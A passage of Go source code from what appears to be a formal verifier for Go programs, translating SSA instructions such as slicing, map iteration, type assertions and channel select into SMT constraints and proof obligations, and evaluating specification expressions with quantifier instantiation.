			fr.env[x] = fr.havocVal(x.Type(), "ia")
			return
		}
		h := heapElem(el)
		fc.regVar(h, arr2Sort(sortOf(el)))
		fr.env[x] = Val{Typ: x.Type(), Loc: &Loc{Kind: LElem, Base: sApp("sl_arr", s), Idx: sApp("+", sApp("sl_off", s), idx), Heap: h, Elem: el}}
	case *types.Pointer:
		at := u.Elem().Underlying().(*types.Array)
		l := fr.locOf(base)
		fr.ob("nil", fr.src(x.Pos(), x.Name()), b, sNot(sEq(l.Base, "0")), x.Pos())
		fr.ob("index", fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", idx), sApp("<", idx, fmt.Sprint(at.Len()))), x.Pos())
		el := at.Elem()
		ref := l.Base
		if l.Path != "" {
			ref = fr.subRef(l.Base, l.Root, l.Path)
		}
		if _, isStruct := el.Underlying().(*types.Struct); isStruct && !isBigInt(el) {
			fr.env[x] = Val{Typ: x.Type(), Loc: &Loc{Kind: LElemObj, Base: ref, Idx: idx, Root: el, Elem: el}}
			return
		}
		h := heapElem(el)
		fc.regVar(h, arr2Sort(sortOf(el)))
		fr.env[x] = Val{Typ: x.Type(), Loc: &Loc{Kind: LElem, Base: ref, Idx: idx, Heap: h, Elem: el}}
	default:
		fc.unsupported("IndexAddr on %s", x.X.Type())
		fr.env[x] = fr.havocVal(x.Type(), "ia")
	}
}

func (fr *Frame) execIndex(b *ssa.BasicBlock, st *State, x *ssa.Index) {
	fc := fr.fc
	base := fr.val(x.X)
	idx := fr.scalar(fr.val(x.Index))
	switch u := x.X.Type().Underlying().(type) {
	case *types.Basic: // string
		s := fr.scalar(base)
		fr.ob("index", fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", idx), sApp("<", idx, sApp("strlen", s))), x.Pos())
		if !fc.declSet["fun:strat"] {
			fc.declSet["fun:strat"] = true
			fc.decls = append(fc.decls, "(declare-fun strat (Int Int) Int)")
		}
		r := sApp("strat", s, idx)
		fc.addFact("true", rangeFact(x.Type(), r))
		fr.env[x] = Val{S: r, Typ: x.Type()}
	case *types.Array:
		fr.ob("index", fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", idx), sApp("<", idx, fmt.Sprint(u.Len()))), x.Pos())
		fr.declArrContents(sortOf(u.Elem()))
		fr.env[x] = Val{S: sSel(sApp("arrcontents_"+sortOf(u.Elem()), fr.scalar(base)), idx), Typ: x.Type()}
	default:
		fc.unsupported("Index on %s", x.X.Type())
		fr.env[x] = fr.havocVal(x.Type(), "idx")
	}
}

func (fr *Frame) execSlice(b *ssa.BasicBlock, st *State, x *ssa.Slice) {
	fc := fr.fc
	base := fr.val(x.X)
	var arr, off, ln, cp string
	isString := false
	knownLen := int64(-1)
	switch u := x.X.Type().Underlying().(type) {
	case *types.Slice:
		s := fr.scalar(base)
		arr, off, ln, cp = sApp("sl_arr", s), sApp("sl_off", s), sApp("sl_len", s), sApp("sl_cap", s)
	case *types.Pointer:
		at := u.Elem().Underlying().(*types.Array)
		l := fr.locOf(base)
		fr.ob("nil", fr.src(x.Pos(), x.Name()), b, sNot(sEq(l.Base, "0")), x.Pos())
		ref := l.Base
		if l.Path != "" {
			ref = fr.subRef(l.Base, l.Root, l.Path)
		}
		arr, off, ln, cp = ref, "0", fmt.Sprint(at.Len()), fmt.Sprint(at.Len())
		if x.Low == nil && x.High == nil {
			knownLen = at.Len()
		}
	case *types.Basic:
		isString = true
		s := fr.scalar(base)
		ln = sApp("strlen", s)
		cp = ln
	default:
		fc.unsupported("Slice on %s", x.X.Type())
		fr.env[x] = fr.havocVal(x.Type(), "slice")
		return
	}
	lo := "0"
	if x.Low != nil {
		lo = fr.scalar(fr.val(x.Low))
		if _, isNum := numeral(lo); !isNum && len(lo) < 2000 {
			fc.sliceLows = append(fc.sliceLows, lo)
		}
	}
	hi := ln
	if x.High != nil {
		hi = fr.scalar(fr.val(x.High))
	}
	mx := cp
	if x.Max != nil {
		mx = fr.scalar(fr.val(x.Max))
	}
	bound := cp
	if isString {
		bound = ln
	}
	if x.Low != nil || x.High != nil || x.Max != nil {
		fr.ob("slice", fr.src(x.Pos(), x.Name()), b, sAnd(sApp("<=", "0", lo), sApp("<=", lo, hi), sApp("<=", hi, mx), sApp("<=", mx, bound)), x.Pos())
	}
	if isString {
		if !fc.declSet["fun:substr"] {
			fc.declSet["fun:substr"] = true
			fc.decls = append(fc.decls, "(declare-fun substr (Int Int Int) Int)")
		}
		r := sApp("substr", fr.scalar(base), lo, hi)
		fc.addFact("true", sEq(sApp("strlen", r), sApp("-", hi, lo)))
		fr.env[x] = Val{S: r, Typ: x.Type()}
		return
	}
	s := fc.freshConst("sl_"+x.Name(), "Int")
	facts := []string{sEq(sApp("sl_arr", s), arr), sEq(sApp("sl_off", s), sApp("+", off, lo)), sEq(sApp("sl_len", s), sApp("-", hi, lo)), sEq(sApp("sl_cap", s), sApp("-", mx, lo))}
	if _, isPtr := x.X.Type().Underlying().(*types.Pointer); isPtr {
		facts = append(facts, sNot(sEq(s, "0")))
	} else {
		facts = append(facts, sEq(sEq(s, "0"), sEq(fr.scalar(base), "0")))
	}
	fr.assume(b, sAnd(facts...))
	fr.env[x] = Val{S: s, Typ: x.Type()}
	if knownLen >= 0 {
		fc.knownLen[s] = knownLen
	}
}

func (fr *Frame) execTypeAssert(b *ssa.BasicBlock, st *State, x *ssa.TypeAssert) {
	fc := fr.fc
	v := fr.scalar(fr.val(x.X))
	at := x.AssertedType
	var ok string
	var res Val
	if _, isIface := at.Underlying().(*types.Interface); isIface {
		okc := fc.freshConst("implements", "Bool")
		fr.assume(b, sImp(okc, sNot(sEq(v, "0"))))
		// when the static set of implementers is known and all of them implement the target, ok <=> non-nil
		ok = okc
		res = Val{S: v, Typ: at}
	} else {
		tag := fmt.Sprint(fc.eng.typeTag(at))
		ok = sEq(sApp("itype", v), tag)
		if isBoolType(at) {
			res = Val{S: sEq(sApp("ipay", v), "1"), Typ: at}
		} else if isAggType(at) {
			res = fr.havocVal(at, "unboxed")
		} else {
			res = Val{S: sApp("ipay", v), Typ: at}
		}
	}
	if x.CommaOk {
		zero := fr.zeroVal(at)
		var val Val
		if res.IsAg {
			val = res
		} else {
			val = Val{S: sIte(ok, res.S, zero.S), Typ: at}
		}
		fr.env[x] = Val{IsAg: true, Typ: x.Type(), Agg: []Val{val, {S: ok, Typ: types.Typ[types.Bool]}}}
	} else {
		fr.ob("assert", fr.src(x.Pos(), x.Name()), b, ok, x.Pos())
		fr.env[x] = res
	}
}

func (fr *Frame) mapPresent(st *State, mt types.Type, m, k string) string {
	fr.regMap(mt)
	return sAnd(sNot(sEq(m, "0")), fr.fc.rd2(st, heapMapP(mt), m, k))
}

func (fr *Frame) mapValue(st *State, mt types.Type, m, k string) string {
	fr.regMap(mt)
	el := mt.Underlying().(*types.Map).Elem()
	return sIte(fr.mapPresent(st, mt, m, k), fr.fc.rd2(st, heapMapV(mt), m, k), zeroTerm(el))
}

func (fr *Frame) execLookup(b *ssa.BasicBlock, st *State, x *ssa.Lookup) {
	fc := fr.fc
	mt := x.X.Type()
	if _, ok := mt.Underlying().(*types.Map); !ok {
		fc.unsupported("Lookup on string")
		fr.env[x] = fr.havocVal(x.Type(), "lookup")
		return
	}
	m := fr.scalar(fr.val(x.X))
	k := fr.scalar(fr.val(x.Index))
	fc.addCandK(k, kKey)
	el := mt.Underlying().(*types.Map).Elem()
	v := Val{S: fr.mapValue(st, mt, m, k), Typ: el}
	// name the value to keep terms small
	c := fc.freshConst("mv", sortOf(el))
	fc.addFact("true", sEq(c, v.S))
	v.S = c
	fr.assume(b, fr.typeFacts(v, st))
	if x.CommaOk {
		fr.env[x] = Val{IsAg: true, Typ: x.Type(), Agg: []Val{v, {S: fr.mapPresent(st, mt, m, k), Typ: types.Typ[types.Bool]}}}
	} else {
		fr.env[x] = v
	}
}

func (fr *Frame) execRange(b *ssa.BasicBlock, st *State, x *ssa.Range) {
	fc := fr.fc
	fc.regVar(hIter, arr2Sort("Bool"))
	it := fr.alloc(st, "iter")
	fr.wrRow(st, hIter, it, "((as const (Array Int Bool)) false)")
	fr.env[x] = Val{S: it, Typ: x.Type()}
	fc.iters[it] = x
	// ghost: the keys are handed out as a sequence itkey(it, 0), itkey(it, 1), ...; ITN[it] counts them
	fc.regVar(hIterN, arrSort("Int"))
	fr.wr1(st, hIterN, it, "0")
	if mt, ok := x.X.Type().Underlying().(*types.Map); ok {
		_ = mt
		fr.regMap(x.X.Type())
		m := fr.scalar(fr.val(x.X))
		if fc.mapIters == nil {
			fc.mapIters = map[string]mapIterInfo{}
		}
		fc.mapIters[it] = mapIterInfo{m: m, mt: x.X.Type(), mpRow: sSel(fc.get(st, heapMapP(x.X.Type())), m)}
	}
}

func (fr *Frame) execNext(b *ssa.BasicBlock, st *State, x *ssa.Next) {
	fc := fr.fc
	it := fr.scalar(fr.val(x.Iter))
	rng, _ := x.Iter.(*ssa.Range)
	if rng == nil || x.IsString {
		fc.unsupported("Next on string / unknown iterator")
		fr.env[x] = fr.havocVal(x.Type(), "next")
		return
	}
	mt := rng.X.Type()
	fr.regMap(mt)
	m := fr.scalar(fr.val(rng.X))
	mp := mt.Underlying().(*types.Map)
	ok := fc.freshConst("next_ok", "Bool")
	k := fc.freshConst("next_k", "Int")
	seen := fc.rd(st, hIter, it)
	present := func(key string) string { return fr.mapPresent(st, mt, m, key) }
	fr.assume(b, sImp(ok, sAnd(present(k), sNot(sSel(seen, k)))))
	// ghost sequence of keys and its length
	fc.regVar(hIterN, arrSort("Int"))
	cnt := fc.rd(st, hIterN, it)
	fr.assume(b, sApp(">=", cnt, "0"))
	fr.assume(b, sImp(ok, sEq(k, sApp("itkey", it, cnt))))
	fr.assume(b, sImp(sNot(ok), sApp("itdone", it)))
	fr.wr1(st, hIterN, it, sIte(ok, sApp("+", cnt, "1"), cnt))
	fc.qcount++
	kk := fmt.Sprintf("qv%dx_kk", fc.qcount)
	exitBody := sImp(present(kk), sSel(seen, kk))
	exitAll := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select %s %s))))", kk, exitBody, seen, kk)
	fc.addFactQ(fr.reach[b.Index], sImp(sNot(ok), exitAll), []QInst{{Forall: exitAll, Var: kk, Inst: exitBody}})
	kv := Val{S: k, Typ: mp.Key()}
	fc.addCandK(k, kKey)
	fr.assume(b, sImp(ok, fr.typeFacts(kv, st)))
	vv := Val{S: fr.mapValueRaw(st, mt, m, k), Typ: mp.Elem()}
	c := fc.freshConst("next_v", sortOf(mp.Elem()))
	fc.addFact("true", sEq(c, vv.S))
	vv.S = c
	fr.assume(b, sImp(ok, fr.typeFacts(vv, st)))
	// mark seen (only matters when ok)
	fr.wr2(st, hIter, it, k, "true")
	fr.env[x] = Val{IsAg: true, Typ: x.Type(), Agg: []Val{{S: ok, Typ: types.Typ[types.Bool]}, kv, vv}}
}

func (fr *Frame) mapValueRaw(st *State, mt types.Type, m, k string) string {
	return fr.fc.rd2(st, heapMapV(mt), m, k)
}

func (fr *Frame) execSelect(b *ssa.BasicBlock, st *State, x *ssa.Select) {
	fc := fr.fc
	// result tuple: (index int, recvOk bool, r_0 T_0, ... r_n-1 T_n-1)
	tup := x.Type().(*types.Tuple)
	v := Val{IsAg: true, Typ: x.Type()}
	for i := 0; i < tup.Len(); i++ {
		hv := fr.havocVal(tup.At(i).Type(), fmt.Sprintf("select%d", i))
		v.Agg = append(v.Agg, hv)
		fr.assume(b, fr.typeFacts(hv, st))
	}
	n := len(x.States)
	lo := "0"
	if !x.Blocking {
		lo = "(- 1)"
	}
	fr.assume(b, sAnd(sApp("<=", lo, v.Agg[0].S), sApp("<", v.Agg[0].S, fmt.Sprint(n))))
	fr.env[x] = v
	_ = fc
	// values of the receive cases: r_k belongs to the k-th receive state, and is the received value when that
	// case was chosen
	k := 2
	for i, sst := range x.States {
		if sst.Dir != types.RecvOnly {
			continue
		}
		if k < len(v.Agg) {
			fr.receivedFacts(b, st, v.Agg[k], sEq(v.Agg[0].S, fmt.Sprint(i)))
		}
		k++
	}
}

// receivedFacts: what is assumed of a value received from a channel. It comes from another goroutine, so it is
// not one of the objects this function allocated and kept to itself; the contract's `received` clauses (over $v)
// are assumptions about what the senders put into the channel and are listed as such in the evidence.
func (fr *Frame) receivedFacts(b *ssa.BasicBlock, st *State, v Val, cond string) {
	fc := fr.fc
	if v.IsAg {
		return
	}
	fr.notLocal(b, v)
	// an object made by another goroutine is not an allocation of this call: it is modelled as one of the objects
	// that existed at entry, which keeps it apart from everything this call allocates
	switch v.Typ.Underlying().(type) {
	case *types.Pointer, *types.Map:
		fc.regVar(hAlloc, "Int")
		fr.assume(b, sImp(cond, sApp("<=", v.S, fc.get(fr.pre, hAlloc))))
		fc.assumptions["objects received from a channel are modelled as existing at entry of the receiving function (never one of its own allocations)"] = true
	}
	if fr.contract == nil || fr.inlined {
		return
	}
	for _, cl := range fr.contract.Received {
		vars := map[string]Val{}
		for kk, pv := range fr.params {
			vars[kk] = pv
		}
		vars["$v"] = v
		env := &SpecEnv{fr: fr, vars: vars, now: st, old: fr.pre, pkg: fr.fn.Pkg.Pkg}
		nerr := len(fc.errors)
		t, qs := fr.evalFact(cl.E, env)
		if len(fc.errors) > nerr {
			// the clause does not apply to a value of this type
			fc.errors = fc.errors[:nerr]
			continue
		}
		fc.addFactQ(fr.reach[b.Index], sImp(cond, t), qs)
		fc.assumptions[fmt.Sprintf("%s: every value received from a channel is assumed to satisfy (the senders are goroutines outside the verified subset): %s", shortFn(fr.fn), cl.Src)] = true
	}
}

type elemHeap struct {
	heap string
	sort string // element sort (Int/Bool)
	typ  types.Type
}

// elemHeaps: the heap variables that hold the elements of a slice/array with element type el
func (fr *Frame) elemHeaps(el types.Type) []elemHeap {
	fc := fr.fc
	if _, isStruct := el.Underlying().(*types.Struct); isStruct && !isBigInt(el) {
		var ls []leaf
		leafFields(el, "", &ls)
		var out []elemHeap
		for _, l := range ls {
			if l.sub {
				fc.unsupported("slice element type %s embeds a big.Int or array by value", el)
				continue
			}
			out = append(out, elemHeap{elemFieldHeap(fc, el, l.path, l.typ), sortOf(l.typ), l.typ})
		}
		return out
	}
	if isAggType(el) {
		fc.unsupported("slice of aggregates %s", el)
		return nil
	}
	h := heapElem(el)
	fc.regVar(h, arr2Sort(sortOf(el)))
	return []elemHeap{{h, sortOf(el), el}}
}

// loops with a declared `loop N modifies ...` clause: every write inside the loop to a declared heap must hit
// a declared row or an object allocated inside the loop
type loopCtx struct {
	li       *loopInfo
	allocPre string
	declared map[string][]string
	frontier map[string]string
	name     string
}

func (fr *Frame) checkLoopWrite(heap, row string) {
	if len(activeLogs[fr.fc]) > 0 {
		return // dry run
	}
	b := fr.curBlock
	for f := fr; f != nil && b != nil; b, f = f.parentBlock, f.parent {
		for _, lc := range f.loopCtxs {
			if !lc.li.blocks[b.Index] {
				continue
			}
			rows, ok := lc.declared[heap]
			if !ok {
				continue
			}
			if f.contract != nil && f.contract.LoopAssumeFrame != nil {
				if why, assumed := f.contract.LoopAssumeFrame[lc.li.ord]; assumed {
					f.fc.assumptions[fmt.Sprintf("%s: the declared frame of loop %d is assumed, not proved at its writes: %s", f.fc.fnName(), lc.li.ord, why)] = true
					continue
				}
			}
			if row == "" {
				f.fc.oblige("loopframe", fmt.Sprintf("loop%d:%s", lc.li.ord, shortHeap(heap)), fr.reach[fr.curBlock.Index], "false", token.NoPos, f.propsList)
				continue
			}
			ap := lc.allocPre
			if fa, ok := lc.frontier[heap]; ok {
				ap = fa
			}
			alts := []string{sNot(sApp("isold", row, ap))}
			for _, r := range rows {
				alts = append(alts, sEq(row, r))
			}
			f.fc.oblige("loopframe", fmt.Sprintf("loop%d:%s", lc.li.ord, shortHeap(heap)), fr.reach[fr.curBlock.Index], sOr(alts...), token.NoPos, f.propsList)
		}
	}
}

// notLocal: a reference loaded from the heap cannot point to an object this function allocated and has not
// yet let escape (stored, passed or returned)
func (fr *Frame) notLocal(b *ssa.BasicBlock, v Val) {
	if v.IsAg || v.Typ == nil || v.S == "" {
		return
	}
	switch v.Typ.Underlying().(type) {
	case *types.Pointer, *types.Map:
	default:
		return
	}
	locals := sortedKeys(fr.fc.localRefs)
	if len(locals) > 12 {
		locals = locals[len(locals)-12:]
	}
	for _, r := range locals {
		if r != v.S {
			fr.assume(b, sNot(sEq(v.S, r)))
		}
	}
}
