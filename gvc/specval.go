package main

import (
	"fmt"
	"go/constant"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type SpecEnv struct {
	fr     *Frame
	vars   map[string]Val
	bound  map[string]Val
	now    *State
	old    *State
	pkg    *types.Package
	header *ssa.BasicBlock   // loop header (for invariants)
	over   map[ssa.Value]Val // phi overrides
	inOld  bool
	neg    bool      // current polarity is negative
	nopol  bool      // polarity unknown (under <==>, ite conditions, or inside a remaining quantifier)
	goal   bool      // evaluating a proof goal (else: a hypothesis)
	qs     *[]QInst  // collects instantiable quantifiers of a hypothesis
	sks    *[]string // collects skolem constants of a goal
}

// QInst: a universally quantified sub-formula in positive position of a hypothesis
type QInst struct {
	Forall   string // the quantified text as it occurs in the fact
	Var      string
	Inst     string   // (=> range body) with Var free
	Children []QInst  // positive universal quantifiers nested directly in the body
	Consts   []string // extra instantiation terms (all values of a small constant range)
	Kind     int      // kIdx: variable ranges over positions, kKey: over map keys, 0: any integer
}

// candsFor filters instantiation terms by the kind of the quantified variable
func (q QInst) candsFor(cands []string, kinds map[string]int) []string {
	if q.Kind == 0 {
		return cands
	}
	var out []string
	for _, c := range cands {
		if k := kinds[c]; k == 0 || k&q.Kind != 0 {
			out = append(out, c)
		}
	}
	return out
}

// instantiate returns the instance of q at term c, in which every nested recorded quantifier is strengthened
// by its own instances at the candidate terms (depth-limited)
// nestedCands: when the candidate list is long, nested quantifiers are instantiated only at the terms that come
// from the goal itself (its skolem constants, their neighbours and its index terms); set per query by BuildQueryX
func (q QInst) instantiate(c string, cands []string, depth int, groundOnly bool, kinds map[string]int) string {
	return q.instantiateN(c, cands, cands, depth, groundOnly, kinds)
}

func (q QInst) instantiateN(c string, cands []string, nested []string, depth int, groundOnly bool, kinds map[string]int) string {
	inst := strings.ReplaceAll(q.Inst, q.Var, c)
	if depth <= 0 {
		if groundOnly {
			for _, ch := range q.Children {
				inst = strings.Replace(inst, strings.ReplaceAll(ch.Forall, q.Var, c), "true", 1)
			}
		}
		return inst
	}
	for _, ch := range q.Children {
		chForall := strings.ReplaceAll(ch.Forall, q.Var, c)
		if !strings.Contains(inst, chForall) {
			continue
		}
		sub := QInst{Forall: chForall, Var: ch.Var, Inst: strings.ReplaceAll(ch.Inst, q.Var, c), Kind: ch.Kind}
		for _, g := range ch.Children {
			sub.Children = append(sub.Children, QInst{Forall: strings.ReplaceAll(g.Forall, q.Var, c), Var: g.Var, Inst: strings.ReplaceAll(g.Inst, q.Var, c), Children: g.Children, Kind: g.Kind})
		}
		parts := []string{chForall}
		if groundOnly {
			parts = nil
		}
		for _, c2 := range append(append([]string{}, sub.candsFor(nested, kinds)...), ch.Consts...) {
			parts = append(parts, sub.instantiateN(c2, cands, nested, depth-1, groundOnly, kinds))
		}
		inst = strings.Replace(inst, chForall, sAnd(parts...), 1)
	}
	return inst
}

func (env *SpecEnv) flip() *SpecEnv {
	n := *env
	n.neg = !env.neg
	return &n
}

func (env *SpecEnv) unknownPol() *SpecEnv {
	n := *env
	n.nopol = true
	return &n
}

// evalFact evaluates a hypothesis and returns its instantiable quantifiers
func (fr *Frame) evalFact(e Expr, env *SpecEnv) (string, []QInst) {
	var qs []QInst
	n := *env
	n.qs = &qs
	n.goal = false
	t := fr.evalBool(e, &n)
	return t, qs
}

// evalGoal evaluates a goal; universally quantified variables in positive position are replaced by fresh constants
func (fr *Frame) evalGoal(e Expr, env *SpecEnv) (string, []string) {
	var sks []string
	n := *env
	n.sks = &sks
	n.goal = true
	t := fr.evalBool(e, &n)
	return t, sks
}

var tInt = types.Typ[types.Int]
var tBool = types.Typ[types.Bool]

func (fr *Frame) specEnv(now, old *State, header *ssa.BasicBlock, over map[ssa.Value]Val) *SpecEnv {
	return &SpecEnv{fr: fr, vars: fr.params, now: now, old: old, pkg: fr.fn.Pkg.Pkg, header: header, over: over}
}

func (env *SpecEnv) withBound(name string, v Val) *SpecEnv {
	n := *env
	n.bound = map[string]Val{}
	for k, x := range env.bound {
		n.bound[k] = x
	}
	n.bound[name] = v
	return &n
}

func (fr *Frame) evalBool(e Expr, env *SpecEnv) string {
	v := fr.evalSpec(e, env)
	if v.IsAg {
		fr.fc.unsupported("spec: aggregate used as formula")
		return "true"
	}
	if v.Typ != nil && !isBoolType(v.Typ) {
		fr.fc.unsupported("spec: non-boolean formula %s", v.S)
		return "true"
	}
	return v.S
}

func (fr *Frame) specErr(format string, args ...interface{}) Val {
	fr.fc.unsupported("spec: "+format, args...)
	return Val{S: fr.fc.freshConst("specerr", "Int"), Typ: tInt}
}

func (fr *Frame) state(env *SpecEnv) *State {
	if env.inOld {
		return env.old
	}
	return env.now
}

func (fr *Frame) evalSpec(e Expr, env *SpecEnv) Val {
	fc := fr.fc
	switch x := e.(type) {
	case *EInt:
		return Val{S: x.V, Typ: tInt}
	case *EBool:
		if x.V {
			return Val{S: "true", Typ: tBool}
		}
		return Val{S: "false", Typ: tBool}
	case *ENil:
		return Val{S: "0", Typ: types.Typ[types.UntypedNil]}
	case *EStr:
		id := fc.eng.strLit(x.V)
		fc.noteStr(id, x.V)
		return Val{S: id, Typ: types.Typ[types.String]}
	case *EIdent:
		return fr.specIdent(x.Name, env)
	case *EOld:
		n := *env
		n.inOld = true
		return fr.evalSpec(x.X, &n)
	case *EUn:
		v := fr.evalSpec(x.X, env)
		if x.Op == "!" {
			v = fr.evalSpec(x.X, env.flip())
			return Val{S: sNot(fr.scalar(v)), Typ: tBool}
		}
		return Val{S: sApp("-", fr.scalar(v)), Typ: tInt}
	case *EBin:
		return fr.specBin(x, env)
	case *ESel:
		// package-qualified identifier?
		if id, ok := x.X.(*EIdent); ok {
			if _, isVar := fr.lookupSpecVar(id.Name, env); !isVar {
				if p := fc.eng.findPkg(id.Name, env.pkg); p != nil {
					return fr.specGlobal(p, x.Name, env)
				}
			}
		}
		base := fr.evalSpec(x.X, env)
		return fr.specField(base, x.Name, env)
	case *EIdx:
		base := fr.evalSpec(x.X, env)
		idx := fr.evalSpec(x.I, env)
		return fr.specIndex(base, idx, env)
	case *ECall:
		return fr.specCall(x, env)
	case *EQuant:
		return fr.specQuant(x, env)
	case *ETypeIs:
		v := fr.evalSpec(x.X, env)
		t := fc.eng.resolveType(env.pkg, x.T)
		if t == nil {
			return fr.specErr("unknown type %s", x.T)
		}
		return Val{S: sEq(sApp("itype", fr.scalar(v)), fmt.Sprint(fc.eng.typeTag(t))), Typ: tBool}
	case *ECast:
		v := fr.evalSpec(x.X, env)
		t := fc.eng.resolveType(env.pkg, x.T)
		if t == nil {
			return fr.specErr("unknown type %s", x.T)
		}
		if isBoolType(t) {
			return Val{S: sEq(sApp("ipay", fr.scalar(v)), "1"), Typ: t}
		}
		return Val{S: sApp("ipay", fr.scalar(v)), Typ: t}
	}
	return fr.specErr("unknown expression %T", e)
}

func (e *Engine) findPkg(name string, from *types.Package) *types.Package {
	if from != nil {
		for _, imp := range from.Imports() {
			if imp.Name() == name {
				return imp
			}
		}
	}
	for _, p := range e.pkgs {
		if p.Types.Name() == name {
			return p.Types
		}
	}
	return nil
}

func (fr *Frame) lookupSpecVar(name string, env *SpecEnv) (Val, bool) {
	if v, ok := env.bound[name]; ok {
		return v, true
	}
	if v, ok := env.vars[name]; ok {
		return v, true
	}
	return Val{}, false
}

func (fr *Frame) specIdent(name string, env *SpecEnv) Val {
	fc := fr.fc
	if v, ok := fr.lookupSpecVar(name, env); ok {
		return v
	}
	if name == "$i" && env.header != nil {
		for _, ins := range env.header.Instrs {
			if phi, ok := ins.(*ssa.Phi); ok && phi.Comment == "rangeindex" {
				return Val{S: sApp("+", fr.scalar(fr.phiVal(phi, env)), "1"), Typ: tInt}
			}
			if phi, ok := ins.(*ssa.Phi); ok && phi.Comment == "rangeint.iter" {
				return Val{S: fr.scalar(fr.phiVal(phi, env)), Typ: tInt}
			}
		}
		return fr.specErr("$i: no rangeindex phi in loop header")
	}
	// source variable at loop header: phi by comment
	if env.header != nil {
		for _, ins := range env.header.Instrs {
			if phi, ok := ins.(*ssa.Phi); ok && phi.Comment == name {
				return fr.phiVal(phi, env)
			}
		}
	}
	// unique SSA value bound to a source variable of this name
	if v, ok := fr.sourceVar(name, env); ok {
		return v
	}
	// package-level object
	if env.pkg != nil {
		if obj := env.pkg.Scope().Lookup(name); obj != nil {
			return fr.specGlobal(env.pkg, name, env)
		}
	}
	// a local that was renamed since the contract was accepted: same position in the list of declarations
	if alias := fr.renamedLocal(name); alias != "" && alias != name {
		if fc.usedAlias == nil {
			fc.usedAlias = map[string]string{}
		}
		fc.usedAlias[name] = alias
		return fr.specIdent(alias, env)
	}
	return fr.specErr("unknown identifier %s", name)
}

// renamedLocal: the contract names a local that does not exist. If the accepted tree had a local of that name and the
// function still declares the same number of source variables, the variable at the same position of the declaration
// order is meant (a pure rename); anything else stays an error.
func (fr *Frame) renamedLocal(name string) string {
	fc := fr.fc
	old := fc.eng.acceptedLocals[fc.fnName()]
	if len(old) == 0 {
		return ""
	}
	cur := sourceLocals(fr.fn)
	if len(cur) != len(old) {
		return ""
	}
	for _, c := range cur {
		if c == name {
			return ""
		}
	}
	pos := -1
	for i, o := range old {
		if o == name {
			if pos >= 0 {
				return "" // ambiguous: two variables of that name (shadowing)
			}
			pos = i
		}
	}
	if pos < 0 {
		return ""
	}
	return cur[pos]
}

func (fr *Frame) phiVal(phi *ssa.Phi, env *SpecEnv) Val {
	if env.over != nil {
		if v, ok := env.over[phi]; ok {
			return v
		}
	}
	return fr.val(phi)
}

// sourceVar finds the SSA value of a source-level variable (via DebugRef). It must be unique among values
// that are available (defined) at the point of use; for loop invariants the loop header phis are tried first.
func (fr *Frame) sourceVar(name string, env *SpecEnv) (Val, bool) {
	var found ssa.Value
	n := 0
	bestDepth, bestIdx := -1, -1
	depth := func(b *ssa.BasicBlock) int {
		d := 0
		for x := b.Idom(); x != nil; x = x.Idom() {
			d++
		}
		return d
	}
	for _, b := range fr.fn.Blocks {
		for idx, ins := range b.Instrs {
			d, ok := ins.(*ssa.DebugRef)
			if !ok || d.IsAddr {
				continue
			}
			obj := d.Object()
			if obj == nil || obj.Name() != name {
				continue
			}
			if _, isVar := obj.(*types.Var); !isVar {
				continue
			}
			if _, defined := fr.env[d.X]; !defined {
				switch d.X.(type) {
				case *ssa.Parameter, *ssa.Const:
				default:
					continue
				}
			}
			if env.header != nil {
				// the assignment must lie on every path to the loop header (its block dominates the header) and so
				// must the definition of the value; the latest such assignment gives the variable's value there
				if b == env.header || !b.Dominates(env.header) {
					continue
				}
				if vi, isIns := d.X.(ssa.Instruction); isIns {
					db := vi.Block()
					if db == nil || !db.Dominates(env.header) || db == env.header {
						continue
					}
				}
				dp := depth(b)
				if dp > bestDepth || (dp == bestDepth && idx > bestIdx) {
					bestDepth, bestIdx = dp, idx
					found = d.X
					n = 1
				}
				continue
			}
			if d.X != found {
				found = d.X
				n++
			}
		}
	}
	if env.header != nil {
		// a phi of an enclosing loop header that carries the variable's name binds it from that header on
		for _, b := range fr.fn.Blocks {
			if b == env.header || !b.Dominates(env.header) {
				continue
			}
			for idx, ins := range b.Instrs {
				phi, ok := ins.(*ssa.Phi)
				if !ok {
					break
				}
				if phi.Comment != name {
					continue
				}
				if _, defined := fr.env[phi]; !defined {
					continue
				}
				dp := depth(b)
				if dp > bestDepth || (dp == bestDepth && idx > bestIdx) {
					bestDepth, bestIdx = dp, idx
					found = phi
					n = 1
				}
			}
		}
	}
	if n == 0 {
		// a local declared as a big.Int VALUE (var tmp big.Int) lives in one allocation; the name denotes its address,
		// so that val(tmp) reads the number
		for _, b := range fr.fn.Blocks {
			for _, ins := range b.Instrs {
				al, ok := ins.(*ssa.Alloc)
				if !ok || al.Comment != name {
					continue
				}
				if pt, ok := al.Type().Underlying().(*types.Pointer); !ok || !isBigInt(pt.Elem()) {
					continue
				}
				if _, defined := fr.env[al]; !defined {
					continue
				}
				if found != al {
					found = al
					n++
				}
			}
		}
	}
	if n == 1 {
		if env.over != nil {
			if v, ok := env.over[found]; ok {
				return v, true
			}
		}
		return fr.val(found), true
	}
	if n > 1 {
		fr.fc.unsupported("spec: source variable %s is ambiguous (%d SSA values)", name, n)
	}
	return Val{}, false
}

func (fr *Frame) specGlobal(pkg *types.Package, name string, env *SpecEnv) Val {
	fc := fr.fc
	obj := pkg.Scope().Lookup(name)
	if obj == nil {
		return fr.specErr("unknown %s.%s", pkg.Name(), name)
	}
	switch o := obj.(type) {
	case *types.Const:
		switch o.Val().Kind() {
		case constant.Int:
			return Val{S: sBigStr(o.Val().ExactString()), Typ: o.Type()}
		case constant.Bool:
			if constant.BoolVal(o.Val()) {
				return Val{S: "true", Typ: tBool}
			}
			return Val{S: "false", Typ: tBool}
		case constant.String:
			s := constant.StringVal(o.Val())
			id := fc.eng.strLit(s)
			fc.noteStr(id, s)
			return Val{S: id, Typ: o.Type()}
		}
	case *types.Var:
		sp := fc.eng.ssaPkgs[pkg.Path()]
		if sp == nil {
			sp = fc.eng.prog.ImportedPackage(pkg.Path())
		}
		if sp != nil {
			if g, ok := sp.Members[name].(*ssa.Global); ok {
				p := fr.globalPtr(g)
				l := fr.locOf(p)
				v := fr.loadLoc(fr.state(env), l)
				if _, isStruct := o.Type().Underlying().(*types.Struct); isStruct {
					// struct-typed global: return a pointer-like object so that fields can be selected
